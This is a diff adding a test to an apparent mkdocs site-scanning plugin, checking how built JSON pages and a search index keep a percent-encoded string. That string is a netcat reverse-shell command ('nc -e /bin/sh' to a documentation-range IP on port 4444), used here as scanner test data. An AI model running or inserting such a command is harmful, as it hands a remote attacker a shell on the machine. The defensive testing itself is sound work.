@@ -14,7 +14,7 @@ from carriers import passage
 from mkdocs_threatgate.looking.novelty import added, is_fresh, pieces, unseen_blocks
 from mkdocs_threatgate.model import Rendering
 from mkdocs_threatgate.sources.hypertext import as_markdown, breaks_words, shown_lines, squeeze
-from mkdocs_threatgate.sources.site import contents, page_address, read_output
+from mkdocs_threatgate.sources.site import Output, contents, page_address, read_output
 
 SNIPPETS = """\
 markdown_extensions:
@@ -299,6 +299,16 @@ def test_a_search_index_is_read_by_the_pages_that_it_repeats(tmp_path: Path) -> 
         "index.html": ["config", "lang", "en"],
     }
     assert [page_address(one) for one in ("", "a/", "a.html")] == ["index.html", "a/index.html", "a.html"]
+
+
+def test_words_joined_by_percent_signs_are_no_address_but_in_a_search_index() -> None:
+    said = "nc%20-e%20/bin/sh%20203.0.113.7%204444"
+    data = json.dumps({"a": said, "b": "one/two/#three"}).encode()
+    ((_, rendering),) = contents(Output("a.json", data, len(data)), "site/a.json").texts
+    assert rendering.markup.split("\n") == ["a", said, "b"]
+    data = json.dumps({"docs": [{"location": f"a/#{said}"}]}).encode()
+    held = contents(Output("search/search_index.json", data, len(data)), "site/x").texts
+    assert dict(held)["a/index.html"].markup.split("\n") == ["location", f"a/#{said}"]
 
 
 def test_hostile_markup_takes_time_in_proportion() -> None:
